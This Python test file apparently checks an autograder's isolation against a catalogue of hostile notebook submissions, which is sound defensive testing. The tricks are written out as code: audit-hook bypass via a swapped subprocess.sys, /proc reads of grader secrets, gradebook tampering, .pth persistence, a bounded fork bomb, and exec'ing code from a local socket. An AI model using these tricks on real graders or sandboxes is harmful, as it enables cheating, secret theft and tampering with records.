"""Can a hostile submission escape its sandbox through ``grade``? The escape catalogue.

Each case is a *wrong* implementation of the ``rnn`` assignment (0 points on
its own) plus a trick that would earn it points or do damage if it worked:
read the solutions or a classmate's notebook and run them, change the
gradebook, persist code into the grader's environment, reach a server, start
processes, read the grader's secrets. Each case is graded by ``grade`` into a
course of its own, where a classmate's grade was recorded before. For each:

- it scores exactly what the wrong code scores alone (0);
- the recorded reason says what was refused;
- the classmate's recorded grade is unchanged, and the gradebook is the same
  file, with the same permissions, intact;
- every file outside the sandbox is byte-identical afterwards: the course
  folder, the repository's solutions and tooling, the helper package (content
  hashes), the virtual environment (metadata of every file, and one content
  hash over the whole catalogue).

The catalogue runs in two configurations: as ``grade`` runs it (the boundary
of autograder.sandbox.isolation plus the audit hook), and with the boundary alone (no
audit hook), to show that what stops each trick is the operating system, not
Python. ``COURSE_ESCAPE_CONFIGS=hook-alone`` runs it without isolation, to see
which tricks an audit hook alone lets through (the tests that then fail).
"""

from __future__ import annotations

import contextlib
import hashlib
import json
import os
import re
import shutil
import socket
import sqlite3
import sys
import sysconfig
import threading
from dataclasses import dataclass
from pathlib import Path

import pytest

from autograder.sandbox import isolation
from autograder.commands.grade import find_jobs, grade
from autograder.engine.gradebook import read_scores
from autograder.paths import ROOT, gradebook_url, release_notebook, source_notebook
from autograder.commands.release import generate
from autograder.engine.results import GRADED
from autograder.engine.runner import Limits
from autograder.course.submissions import fill, reference_answers
from conftest import ISOLATED, requires_isolation

pytestmark = pytest.mark.slow

SLUG = "rnn"
CONFIGURATIONS = {
    "graded": Limits(cell_timeout=20, memory_mb=1024),
    "boundary-alone": Limits(cell_timeout=20, memory_mb=1024, audit_hook=False),
    "hook-alone": Limits(cell_timeout=20, memory_mb=1024, isolation=False),
}
CONFIGS = os.environ.get("COURSE_ESCAPE_CONFIGS", "graded,boundary-alone").split(",")

RELEASE = json.loads(release_notebook(SLUG).read_text(encoding="utf-8"))
ANSWERS = reference_answers(json.loads(source_notebook(SLUG).read_text(encoding="utf-8")))
SECRET_NAME, SECRET = "COURSE_GRADEBOOK_PASSWORD", "escape-catalogue-secret-4f1d"

WRONG = {
    "rnn_step_forward": "def rnn_step_forward(x, prev_h, Wx, Wh, b):\n"
                        "    next_h = np.zeros((x.shape[0], Wh.shape[0]))  # wrong: ignores every input\n"
                        "    return next_h, (x, prev_h, Wx, Wh, b, next_h)\n",
    "rnn_step_backward": "def rnn_step_backward(dnext_h, cache):\n"
                         "    x, prev_h, Wx, Wh, b, next_h = cache\n"
                         "    return (np.zeros_like(x), np.zeros_like(prev_h), np.zeros_like(Wx), np.zeros_like(Wh),\n"
                         "            np.zeros_like(b))\n",
}

#: The payoff of a trick that reads a notebook: run its answer cells (the solutions, or a
#: classmate's answers), which replaces the wrong functions with right ones.
TAKE = '''
import json, os
def take(path=None, text=None):
    notebook = json.loads(text) if text is not None else json.load(open(path))
    for cell in notebook["cells"]:
        if cell["metadata"].get("nbgrader", {}).get("solution"):
            exec("".join(cell["source"]), globals())
'''

#: subprocess calls sys.audit through its module's own ``sys``: swapped, the audit hook never
#: hears of the process, which then runs with no hook at all.
UNAUDITED_SUBPROCESS = '''
import subprocess, types
subprocess.sys = types.SimpleNamespace(**{**vars(__import__("sys")), "audit": lambda *a: None})
'''

BYPASSED_SUBPROCESS = UNAUDITED_SUBPROCESS + '''
take(text=subprocess.run(["cat", SOLUTIONS], capture_output=True, text=True, check=True).stdout)
'''

HOOKLESS_CHILD = UNAUDITED_SUBPROCESS + '''
subprocess.run(["/bin/sh", "-c", f"echo import os > {SITE}/zz_escape.pth"], check=True)
'''

PROC_ROUTES = '''
error = None
for pid in os.listdir("/proc"):
    for route in (f"/proc/{pid}/cwd/solutions/rnn/rnn.ipynb", f"/proc/{pid}/root{SOLUTIONS}"):
        try:
            take(route)
            error = None
            break
        except OSError as failure:
            error = failure
    try:
        open(f"/proc/{pid}/mem", "rb").read(1)
    except OSError:
        pass
if error:
    raise error
'''

ENVIRONMENT = '''
found = SECRET in repr(dict(os.environ))
for pid in os.listdir("/proc"):  # the grader's processes
    try:
        found = found or SECRET.encode() in open(f"/proc/{pid}/environ", "rb").read()
    except OSError:
        pass
if not found:
    raise LookupError("the secret was not found")
exec(PRIZE)  # stands for what the password would give: the gradebook
'''

FORK_BOMB = '''
import time
children = []
for _ in range(50):  # bounded, so that a run without isolation does no harm
    pid = os.fork()
    if pid == 0:
        time.sleep(1)
        os._exit(0)
    children.append(pid)
exec(PRIZE)  # stands for what a bomb that went off would do to the class
'''

SOCKET = '''
import socket
with socket.create_connection(("127.0.0.1", PORT), timeout=5) as connection:
    exec(connection.recv(100_000).decode(), globals())  # an accomplice sends the answers
'''


@dataclass(frozen=True)
class Escape:
    """One trick: its code (after the wrong answers) and the reasons it may be refused for.

    ``with_hook`` is the reason recorded when the audit hook is on (it refuses
    first, with a clear message, or does not see the trick and the boundary
    refuses); ``boundary`` when only the operating system stands in the way.
    """

    name: str
    code: str
    with_hook: str
    boundary: str


MAY_NOT_ACCESS = r"PermissionError: a submission may not access"
NOT_FOUND = r"FileNotFoundError: \[Errno 2\]"
NOT_PERMITTED = r"PermissionError: \[Errno 1\] Operation not permitted"
READ_ONLY = r"OSError: \[Errno 30\] Read-only file system"
HOOK_REFUSED = r"PermissionError: a submission may|does not allow"  # the audit hook's own refusals

ESCAPES = [
    Escape("hard-link-to-solutions", "os.link(SOLUTIONS, '/tmp/s.ipynb')\ntake('/tmp/s.ipynb')\n",
           MAY_NOT_ACCESS, NOT_FOUND),
    Escape("symlink-to-solutions", "os.symlink(SOLUTIONS, '/tmp/s.ipynb')\ntake('/tmp/s.ipynb')\n",
           MAY_NOT_ACCESS, NOT_FOUND),
    Escape("hard-link-to-gradebook", "import sqlite3\nos.link(GRADEBOOK, '/tmp/g.db')\n"
           "db = sqlite3.connect('/tmp/g.db')\ndb.execute('update grade set auto_score = 0')\ndb.commit()\n",
           MAY_NOT_ACCESS, NOT_FOUND),
    Escape("proc-routes-to-the-grader", PROC_ROUTES, NOT_FOUND, NOT_FOUND),
    Escape("process-with-the-audit-call-bypassed", BYPASSED_SUBPROCESS, NOT_PERMITTED, NOT_PERMITTED),
    Escape("hookless-child-writes-site-packages", HOOKLESS_CHILD, NOT_PERMITTED, NOT_PERMITTED),
    Escape("rename-gradebook", "os.rename(GRADEBOOK, GRADEBOOK + '.gone')\n", MAY_NOT_ACCESS, NOT_FOUND),
    Escape("truncate-gradebook", "os.truncate(GRADEBOOK, 0)\n", MAY_NOT_ACCESS, NOT_FOUND),
    Escape("chmod-gradebook", "os.chmod(GRADEBOOK, 0)\n", MAY_NOT_ACCESS, NOT_FOUND),
    Escape("overwrite-gradebook", "open(GRADEBOOK, 'wb').write(b'gone')\n", MAY_NOT_ACCESS, NOT_FOUND),
    Escape("pth-into-site-packages", "open(SITE + '/zz_escape.pth', 'w').write('import os\\n')\n",
           r"PermissionError: a submission may only write under", READ_ONLY),
    Escape("module-into-helper-package", "open(HELPER + '/zz_escape.py', 'w').write('raise SystemExit\\n')\n",
           r"PermissionError: a submission may only write under", READ_ONLY),
    Escape("write-into-course-folder", "open(COURSE + '/nbgrader_config.py', 'a').write('# changed\\n')\n",
           MAY_NOT_ACCESS, NOT_FOUND),
    Escape("read-a-classmates-submission", "take(COURSE + '/submitted/classmate/rnn/rnn.ipynb')\n",
           MAY_NOT_ACCESS, NOT_FOUND),
    Escape("socket-to-a-local-server", SOCKET, r"does not allow socket.connect", r"ConnectionRefusedError"),
    Escape("fork-bomb", FORK_BOMB, r"does not allow os.fork", NOT_PERMITTED),
    Escape("grader-environment", ENVIRONMENT, NOT_FOUND, NOT_FOUND),
]


def submission(escape: Escape, values: dict[str, object]) -> dict:
    """The wrong answers, with the trick at the end of the last answer cell (so its payoff wins)."""
    constants = "".join(f"{name} = {value!r}\n" for name, value in values.items())
    trick = f"{TAKE}\n{constants}\n{escape.code}"
    return fill(RELEASE, {**WRONG, "rnn_step_backward": WRONG["rnn_step_backward"] + trick})


# -- what must not change --------------------------------------------------------

def content_hashes(folder: Path, skip=()) -> dict[str, str]:
    hashes = {}
    for path in sorted(folder.rglob("*")):
        relative = path.relative_to(folder)
        if any(relative.parts[: len(s.parts)] == s.parts for s in skip):
            continue
        if path.is_symlink():
            hashes[str(relative)] = "link:" + os.readlink(path)
        elif path.is_file():
            hashes[str(relative)] = f"{path.stat().st_mode:o}:" + hashlib.sha256(path.read_bytes()).hexdigest()
        else:
            hashes[str(relative)] = f"dir:{path.stat().st_mode:o}"
    return hashes


def metadata(folder: Path) -> dict[str, tuple]:
    """Path, kind, size, mode and modification time of every file: any write shows."""
    entries = {}
    for directory, folders, files in os.walk(folder):
        for name in folders + files:
            path = os.path.join(directory, name)
            status = os.lstat(path)
            entries[path] = (status.st_mode, status.st_size, status.st_mtime_ns, status.st_ino)
    return entries


VENV = Path(sys.prefix)
SITE = Path(sysconfig.get_paths()["purelib"])
HELPER = isolation.helper_package()
GRADER_OUTPUT = (Path("autograded"), Path("feedback"), Path("autograder"))  # the grader's own writes


def outside_the_sandbox(course: Path) -> dict:
    """Everything a submission must leave as it was (the gradebook is checked on its own)."""
    return {
        "course": content_hashes(course, skip=GRADER_OUTPUT),
        "repository": {part: content_hashes(ROOT / part, skip=(Path("__pycache__"),))
                       for part in ("solutions", "exercises", "autograder")},
        "helper": content_hashes(HELPER, skip=(Path("__pycache__"),)),
        "environment": metadata(VENV),
    }


def gradebook_file(course: Path) -> tuple:
    path = course / "autograder" / "gradebook.db"
    status = path.stat()
    with contextlib.closing(sqlite3.connect(path)) as db:
        intact = db.execute("PRAGMA integrity_check").fetchone()[0]
    return status.st_ino, status.st_mode, intact


# -- the class -----------------------------------------------------------------------

@pytest.fixture(scope="module")
def base_course(tmp_path_factory):
    """The rnn assignment with a classmate graded (full marks) before any attacker."""
    course = tmp_path_factory.mktemp("escape-base")
    generate(SLUG, course)
    folder = course / "submitted" / "classmate" / SLUG
    folder.mkdir(parents=True)
    (folder / f"{SLUG}.ipynb").write_text(json.dumps(fill(RELEASE, ANSWERS)), encoding="utf-8")
    limits = Limits(isolation=ISOLATED)
    [result] = grade(find_jobs(course, [SLUG]), gradebook_url(course), course, 1, limits, progress=False)
    assert result.score == 8
    return course


@pytest.fixture(scope="module")
def accomplice():
    """A server on 127.0.0.1 that hands the right answers to whoever connects, and counts them."""
    server = socket.create_server(("127.0.0.1", 0))
    connections = []

    def serve():
        with contextlib.suppress(OSError):
            while True:
                connection, _ = server.accept()
                connections.append(connection)
                connection.sendall("\n".join(ANSWERS.values()).encode())
                connection.close()

    threading.Thread(target=serve, daemon=True).start()
    yield server.getsockname()[1], connections
    server.close()


@pytest.fixture(scope="module")
def environment_hash():
    """One content hash of the whole virtual environment, before the catalogue and after it."""
    before = content_hashes(VENV)
    yield
    assert content_hashes(VENV) == before, "a file of the virtual environment changed"


@pytest.fixture(autouse=True)
def grader_secret(monkeypatch):
    monkeypatch.setenv(SECRET_NAME, SECRET)  # the grader holds a secret; no submission may see it


def attack(course: Path, escape: Escape, port: int) -> None:
    """Put the attacker's notebook into ``course``."""
    values = {"PRIZE": "\n".join(ANSWERS.values()), "SOLUTIONS": str(source_notebook(SLUG)), "GRADEBOOK": str(course / "autograder" / "gradebook.db"),
              "SITE": str(SITE), "HELPER": str(HELPER), "COURSE": str(course), "PORT": port, "SECRET": SECRET}
    folder = course / "submitted" / "attacker" / SLUG
    folder.mkdir(parents=True)
    (folder / f"{SLUG}.ipynb").write_text(json.dumps(submission(escape, values)), encoding="utf-8")


@requires_isolation
@pytest.mark.parametrize("config", CONFIGS)
@pytest.mark.parametrize("escape", ESCAPES, ids=[e.name for e in ESCAPES])
def test_is_the_trick_refused_with_a_reason_and_everything_outside_left_as_it_was(
        escape, config, base_course, accomplice, environment_hash, tmp_path):
    limits = CONFIGURATIONS[config]
    port, connections = accomplice
    course = tmp_path / "course"
    shutil.copytree(base_course, course)
    attack(course, escape, port)
    before, gradebook_before, connected_before = outside_the_sandbox(course), gradebook_file(course), len(connections)
    try:
        [result] = grade(find_jobs(course, [SLUG], ["attacker"]), gradebook_url(course), course, 1, limits,
                         progress=False)
        assert (result.status, result.score) == (GRADED, 0), (result.notes, [c.message[:200] for c in result.cells])
        expected = (escape.with_hook if limits.audit_hook else escape.boundary) if limits.isolation else HOOK_REFUSED
        recorded = result.notes + [cell.message for cell in result.cells]
        assert any(re.search(expected, text) for text in recorded), f"{expected!r} not in {recorded}"
        stored = read_scores(gradebook_url(course), SLUG)
        assert {student: score.score for student, score in stored.items()} == {"classmate": 8, "attacker": 0}
        assert gradebook_file(course) == gradebook_before  # same file, same permissions, intact
        assert len(connections) == connected_before, "the submission reached the server on 127.0.0.1"
        assert outside_the_sandbox(course) == before
    finally:
        for planted in (SITE / "zz_escape.pth", HELPER / "zz_escape.py"):  # only ever there if a test failed
            planted.unlink(missing_ok=True)
